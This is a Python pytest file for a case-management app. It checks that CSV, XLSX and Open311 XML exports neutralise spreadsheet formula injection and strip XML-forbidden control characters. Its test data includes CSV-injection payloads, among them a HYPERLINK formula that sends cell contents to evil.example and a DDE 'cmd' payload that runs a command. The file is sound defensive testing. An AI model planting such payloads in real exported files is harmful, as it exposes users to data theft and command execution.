"""Text that leaves safely: no formula in a CSV or XLSX cell, nothing XML 1.0 forbids in XLSX or Open311 XML.

The cases here are written straight into the database (bypassing intake, which now refuses control
characters), as data stored before the rule or by another system would be.
"""
from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from grid_app.platform import tables
from grid_app.models import Case, Grid
from grid_app.platform.text import cell_text, xml_safe

from .. import district
from ..cases.helpers import log_case

CASES = "/api/v1/exports/cases"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&B2,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=1+1\n第二行"]
ORDINARY = ["路边垃圾堆积", "a-b = c", "1+1", "电话 138-0000-0000", "邮箱 li@example.cn", " =前面有空格", "'已引用"]
CONTROL = "井盖\x0b松动\x01了\x1f"  # \x0b \x01 \x1f: XML 1.0 forbids them, openpyxl raises on them
ROLES = ["admin", "street", "secretary", "worker"]


def _case_with(session, users, description, address=None):
    case, _ = log_case(session, users["admin"], x=100, y=300, description="占位")
    session.execute(update(Case).where(Case.id == case.id).values(description=description, address=address))
    session.commit()
    return case.id


def _xlsx_rows(res):
    assert res.status_code == 200, res.get_data(as_text=True)[:300]
    ws = load_workbook(io.BytesIO(res.get_data())).active
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    heads = [c.value for c in next(ws.iter_rows(max_row=1))]
    return [dict(zip(heads, row)) for row in ws.iter_rows(min_row=2, values_only=True)]


def _csv_rows(res):
    assert res.status_code == 200, res.get_data(as_text=True)[:300]
    return list(csv.DictReader(io.StringIO(res.get_data(as_text=True)[1:])))


@pytest.mark.parametrize("payload", FORMULAS, ids=range(len(FORMULAS)))
def test_formula_text_leaves_as_quoted_text_in_both_formats(session, users, login, payload):
    case_id = _case_with(session, users, payload, address=payload)
    client = login("admin")
    row = next(r for r in _xlsx_rows(client.get(f"{CASES}.xlsx")) if r["编号"] == case_id)
    quoted = ("'" + payload).replace("\r", "\n")  # XML reads a raw CR as a newline
    assert row["描述"] == quoted and row["地址"] == quoted
    row = next(r for r in _csv_rows(client.get(f"{CASES}.csv")) if int(r["编号"]) == case_id)
    assert row["描述"] == "'" + payload and row["地址"] == "'" + payload


@pytest.mark.parametrize("text", ORDINARY, ids=range(len(ORDINARY)))
def test_ordinary_text_leaves_unchanged(session, users, login, text):
    case_id = _case_with(session, users, text)
    client = login("admin")
    assert next(r for r in _xlsx_rows(client.get(f"{CASES}.xlsx")) if r["编号"] == case_id)["描述"] == text
    assert next(r for r in _csv_rows(client.get(f"{CASES}.csv")) if int(r["编号"]) == case_id)["描述"] == text


@pytest.mark.parametrize("role", ROLES)
def test_a_stored_control_character_breaks_no_export_for_anyone(session, users, login, role):
    case_id = _case_with(session, users, CONTROL, address="=地址\x0b")
    client = login(role)
    row = next(r for r in _xlsx_rows(client.get(f"{CASES}.xlsx")) if r["编号"] == case_id)
    assert row["描述"] == "井盖松动了" and row["地址"] == "'=地址"
    row = next(r for r in _csv_rows(client.get(f"{CASES}.csv")) if int(r["编号"]) == case_id)
    assert row["描述"] == "井盖松动了"
    assert client.get(f"{CASES}.geojson").status_code == 200


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("path", ["/api/v1/indicators?group=grid&format={fmt}", "/api/v1/exports/indicators.{fmt}?group=grid"])
def test_indicator_tables_neutralise_names_too(session, users, login, path, fmt):
    log_case(session, users["admin"], x=100, y=300)
    session.execute(update(Grid).where(Grid.code == district.GRID_A1).values(name="=1+2\x0b"))
    session.commit()
    res = login("admin").get(path.format(fmt=fmt))
    rows = _xlsx_rows(res) if fmt == "xlsx" else _csv_rows(res)
    assert next(r for r in rows if r["编码"] == district.GRID_A1)["名称"] == "'=1+2"


def test_open311_xml_stays_well_formed(session, users, client):
    case_id = _case_with(session, users, CONTROL, address="幸福路\x01 1 号")
    session.execute(update(Case).where(Case.id == case_id).values(channel="public"))
    session.commit()
    for path in ("/open311/v2/requests.xml", f"/open311/v2/requests/{case_id}.xml"):
        res = client.get(path)
        assert res.status_code == 200
        root = ET.fromstring(res.get_data())
        request = next(r for r in root.findall("request") if r.find("service_request_id").text == str(case_id))
        assert request.find("description").text == "井盖松动了"
        assert request.find("address").text == "幸福路 1 号"
    listed = client.get("/open311/v2/requests.json").get_json()
    assert next(r for r in listed if r["service_request_id"] == str(case_id))["description"] == CONTROL


# --- the one function, and the one writer path ---------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    *[(f, "'" + f) for f in FORMULAS], *[(t, t) for t in ORDINARY],
    (CONTROL, "井盖松动了"), ("\x0b=1", "'=1"), ("\ufffe\uffff", ""), ("", ""),
])
def test_cell_text(value, expected):
    assert cell_text(value) == expected


def test_xml_safe_keeps_tab_newline_cr_and_c1():
    assert xml_safe("a\tb\nc\rd\x85e\x00f\x08") == "a\tb\nc\rd\x85ef"


COLUMNS = [("text", "文字", "Text"), ("n", "数", "Number"), ("when", "时间", "When"), ("flag", "是否", "Flag")]


def test_tables_write_numbers_as_numbers_and_text_as_text():
    from datetime import datetime, timezone
    rows = [{"text": "=SUM(A1)", "n": -1.5, "when": datetime(2026, 5, 1, 8, 0, 1, 5, tzinfo=timezone.utc),
             "flag": True}, {"text": None, "n": 0, "when": None, "flag": False}]
    ws = load_workbook(io.BytesIO(tables.to_xlsx(rows, COLUMNS))).active
    got = list(ws.iter_rows(values_only=True))
    assert got[0] == ("文字", "数", "时间", "是否")
    assert got[1] == ("'=SUM(A1)", -1.5, datetime(2026, 5, 1, 8, 0, 1), True)
    assert got[2] == (None, 0, None, False)
    assert ws["A1"].font.b and ws.freeze_panes == "A2"
    text = tables.to_csv(rows, COLUMNS, "en").decode("utf-8")
    assert text.splitlines() == ["\ufeffText,Number,When,Flag", "'=SUM(A1),-1.5,2026-05-01T08:00:01+00:00,1",
                                 ",0,,0"]
